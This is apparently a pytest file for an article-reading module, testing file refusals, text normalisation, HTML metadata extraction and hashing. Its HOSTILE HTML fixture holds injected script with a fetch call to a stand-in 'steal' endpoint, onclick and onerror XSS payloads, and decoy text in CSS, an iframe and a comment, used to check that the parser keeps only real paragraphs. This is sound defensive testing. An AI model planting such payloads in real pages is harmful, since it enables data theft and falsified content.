"""Articles: what can be read, what is refused, and what a page's script cannot do."""

from __future__ import annotations

import hashlib
from datetime import date
from pathlib import Path

import pytest

from borderdesk.article import Article, read_article
from borderdesk.errors import ArticleError

PNG = bytes.fromhex("89504e470d0a1a0a0000000d49484452")

REFUSED = [
    ("empty.txt", b"", "found an empty file"),
    ("blank.txt", b" \r\n\t\n", "found an empty file"),
    ("mark.txt", "\ufeff".encode(), "found an empty file"),
    ("mark-and-blank.txt", "\ufeff \n".encode(), "found an empty file"),
    ("picture.png", PNG, "found a binary file"),
    ("picture.html", PNG, "found a binary file"),
    ("cut-picture.txt", PNG[:8], "byte 0: found bytes that are not UTF-8"),
    ("utf-16.txt", "64,000 left".encode("utf-16"), "found a binary file"),
    ("utf-16-cyrillic.txt", "выехало".encode("utf-16"), "byte 0: found bytes that are not UTF-8"),
    ("latin.txt", "Zürich: 12".encode("latin-1"), "byte 1: found bytes that are not UTF-8"),
    ("nul.txt", b"64,000\0 left", "found a binary file"),
    ("empty.html", b"<html><body></body></html>", "found no article in the HTML"),
    (
        "script-only.html",
        b"<html><body><script>document.write('64,000 left')</script></body></html>",
        "found no article",
    ),
    ("no-page.html", b"<<<>>>", "found no article in the HTML"),
]

READ = [
    (b"64,000 left.\n", "64,000 left.\n"),
    ("\ufeff64,000 left.".encode(), "64,000 left."),
    (b"one\r\ntwo\rthree\n", "one\ntwo\nthree\n"),
    ("выехало 64 000 🇬🇪".encode(), "выехало 64 000 🇬🇪"),
    (b"<p>not read as HTML</p>", "<p>not read as HTML</p>"),
]

HOSTILE = """<!doctype html><html lang="en"><head><title>Thousands cross</title>
<meta property="og:site_name" content="Example Wire"><meta property="article:published_time" content="2022-09-28">
<script>document.body.innerHTML = "999,999 came"; fetch("https://example.org/steal")</script>
<style>p::after { content: "888,888 came" }</style></head><body><article><h1>Thousands cross</h1>
<p onclick="alert(1)">Georgia counted 78,742 arrivals from Russia in ten days, its interior ministry said on Tuesday.</p>
<p>In the same ten days 62,120 people left the country, <img src=x onerror="alert('777,777 came')"> the ministry said.</p>
<script type="text/javascript">var stolen = "666,666 came";</script><noscript>555,555 came</noscript>
<iframe srcdoc="<p>444,444 came</p>"></iframe><!-- 333,333 came -->
<p>Most of them crossed at Upper Lars, where cars waited for days and people went on by bicycle and on foot.</p>
</article></body></html>"""


@pytest.mark.parametrize(("name", "data", "reason"), REFUSED, ids=[case[0] for case in REFUSED])
def test_what_is_no_article_is_refused_in_one_line_that_names_the_file(
    name: str, data: bytes, reason: str, tmp_path: Path
) -> None:
    path = tmp_path / name
    path.write_bytes(data)
    message = refusal(path)
    assert message.startswith(str(path))
    assert reason in message


@pytest.mark.parametrize(("name", "reason"), [("none.txt", "found no such file"), ("", "found a folder")])
def test_a_path_without_a_file_is_refused_in_one_line(name: str, reason: str, tmp_path: Path) -> None:
    assert reason in refusal(tmp_path / name)


def test_a_path_that_no_system_can_open_is_refused_in_one_line(tmp_path: Path) -> None:
    assert "cannot be read" in refusal(tmp_path / ("long" * 200))


def refusal(path: Path) -> str:
    with pytest.raises(ArticleError) as error:
        read_article(path)
    assert "\n" not in str(error.value)
    return str(error.value)


@pytest.mark.parametrize(("data", "text"), READ)
def test_a_text_is_read_as_it_is_with_line_ends_of_one_kind(data: bytes, text: str, tmp_path: Path) -> None:
    path = tmp_path / "article.txt"
    path.write_bytes(data)
    assert read_article(path) == Article(text)


def test_of_a_page_with_hostile_script_only_the_paragraphs_are_read(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(HOSTILE, "utf-8")
    article = read_article(path)
    assert "78,742 arrivals" in article.text
    assert "62,120 people left" in article.text
    assert "Upper Lars" in article.text
    assert not [
        trick
        for trick in ("99,999", "88,888", "77,777", "66,666", "44,444", "33,333", "alert", "<")
        if trick in article.text
    ]


def test_a_page_tells_its_title_publisher_and_day(tmp_path: Path) -> None:
    path = tmp_path / "page.html"
    path.write_text(HOSTILE, "utf-8")
    article = read_article(path)
    assert (article.title, article.publisher, article.published) == (
        "Thousands cross",
        "Example Wire",
        date(2022, 9, 28),
    )


def test_the_hash_is_that_of_the_text_as_utf_8() -> None:
    assert Article("64,000 left — fast").sha256 == hashlib.sha256("64,000 left — fast".encode()).hexdigest()
